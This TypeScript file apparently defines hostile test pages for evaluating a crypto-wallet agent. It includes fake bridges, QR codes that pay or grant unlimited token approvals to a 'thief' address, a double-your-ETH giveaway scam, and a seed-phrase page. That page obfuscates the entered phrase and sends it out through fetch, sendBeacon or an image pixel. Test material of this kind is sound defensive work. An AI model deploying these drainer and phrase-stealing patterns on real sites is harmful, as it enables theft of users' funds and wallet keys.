import { codePicture } from '../codePictures.ts'
import { type PageClass, pick, sends, VISITOR } from '../pageDesign.ts'

/** Words go as cipher text; only words of a phrase's length are taken. */
const SEALS = [
  `const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['encrypt'])
const iv = crypto.getRandomValues(new Uint8Array(12))
const box = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, new TextEncoder().encode(words.join(' ')))
await fetch('/api/v2/check', { method: 'POST', body: new Blob([iv, await crypto.subtle.exportKey('raw', key), box]) })`,
  `const pad = crypto.getRandomValues(new Uint8Array(16))
const box = [...new TextEncoder().encode(words.join(' '))].map((one, at) => one ^ pad[at % 16])
navigator.sendBeacon('/api/v2/check', JSON.stringify({ k: [...pad], d: box }))`,
  `const shift = 3 + Math.floor(Math.random() * 90)
const box = [...words.join(' ')].map((one) => (one.charCodeAt(0) * 7 + shift) & 255)
new Image().src = '/pixel.gif?s=' + shift.toString(16) + '&v=' + btoa(String.fromCharCode(...box)).replace(/[+]/g, '-').replace(/[/]/g, '_')`,
  `const pad = crypto.getRandomValues(new Uint8Array(8))
const box = [...new TextEncoder().encode(words.join(' '))].map((one, at) => (one + pad[at % 8]) & 255)
await fetch('/api/v2/check', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ id: [...pad, ...box].map((one) => one.toString(16).padStart(2, '0')).join('') }) })`,
]

export const CODES: readonly PageClass[] = [
  {
    id: 'swept-bridge',
    hostile: true,
    design: (variant, world) => ({
      title: pick(['Causeway', 'Bridge', 'Brücke', 'Puente'], variant),
      content: `<h1>${pick(['Bridge to the other side', 'Move ETH', 'Brücke', 'Puente'], variant)}</h1><p>${pick(['Arrives in about three minutes: 0.05 ETH.', 'From Ethereum to the rollup. Fee: gas only.', 'Dauert etwa drei Minuten. 0,05 ETH.', 'Llega en tres minutos.'], variant)}</p>`,
      buttons: [
        {
          label: pick(['Bridge', 'Transfer', 'Senden', 'Enviar'], variant),
          code: sends(
            world.projects.sweptBridge,
            world.call('QuorumBridge', 'sendCoins', [10n, VISITOR]),
            5n * 10n ** 16n,
          ),
        },
      ],
    }),
  },
  {
    id: 'code-other-address',
    hostile: true,
    design: (variant, world) => {
      const { html, start } = codePicture(pick([world.thief, `ethereum:${world.thief}@1`], variant >> 1), variant)
      return {
        title: pick(['Harbour shelter', 'Invoice 2041', 'Choir fund', 'Refugio'], variant),
        content: `<h1>${pick(['Help the shelter', 'Invoice 2041', 'New roof for the choir', 'Ayuda al refugio'], variant)}</h1><p>${pick(['Every gift helps.', 'Due in ten days: 0.1 ETH.', 'We are half way there.', 'Gracias.'], variant)}</p><section><p><code>${world.actors.friend}</code></p>${html}</section>`,
        start,
      }
    },
  },
  {
    id: 'code-approval',
    hostile: true,
    design: (variant, world) => {
      const asked = pick(
        [
          `ethereum:${world.tokens.usdc}@1/approve?address=${world.thief}&uint256=1e40`,
          `ethereum:${world.nfts.collectible}@1/setApprovalForAll?address=${world.thief}&bool=true`,
          `https://wallet.example/send/${world.tokens.dai}@1/approve?address=${world.thief}&uint256=1e40`,
          `ethereum:${world.tokens.usdc}@1/increaseAllowance?address=${world.thief}&uint256=1e40`,
        ],
        variant,
      )
      const { html, start } = codePicture(asked, variant + 1)
      return {
        title: pick(['Guest list', 'Member card', 'Season pass', 'Tarjeta'], variant),
        content: `<h1>${pick(['You are on the list', 'Your card', 'Season pass', 'Tu tarjeta'], variant)}</h1><p>${pick(['Scan to enter.', 'Scan with your phone.', 'Show it at the door.', 'Escanea.'], variant)}</p>${html}`,
        start,
      }
    },
  },
  {
    id: 'code-gift',
    hostile: true,
    design: (variant, world) => {
      const { html, start } = codePicture(`ethereum:${world.thief}`, variant + 2)
      return {
        title: pick(['Anniversary', 'Ten years', 'Community day', 'Aniversario'], variant),
        content: `<h1>${pick(['Anniversary', 'Ten years', 'Community day', 'Aniversario'], variant)}</h1><p>${pick(['Send 0.5 to 20 ETH and get double back within ten minutes.', 'Deposit any amount and receive twice as much back today.', 'We will send back 2x of what you send.', 'Envía de 0,5 a 20 ETH y recibe el doble en diez minutos.'], variant)}</p>${html}`,
        start,
      }
    },
  },
  {
    id: 'sealed-phrase',
    hostile: true,
    design: (variant) => ({
      title: pick(['Line check', 'Desk', 'Case 77', 'Mesa'], variant),
      content: `<h1>${pick(['Line check', 'Desk', 'Case 77', 'Mesa'], variant)}</h1><p>${pick(['Put your line here.', 'Write it as it stands on your card.', 'Continue where you stopped.', 'Escribe la línea.'], variant)}</p><textarea id="line" rows="3" cols="60"></textarea>`,
      buttons: [
        {
          label: pick(['Continue', 'Check', 'Next', 'Seguir'], variant),
          connects: false,
          code: `const words = at('#line').value.trim().split(/\\s+/)
if (![12, 15, 18, 24].includes(words.length) || !words.every((one) => /^[a-z]{3,8}$/.test(one))) { say('Not readable'); return }
${pick(SEALS, variant)}
say('Thank you')`,
        },
      ],
    }),
  },
]
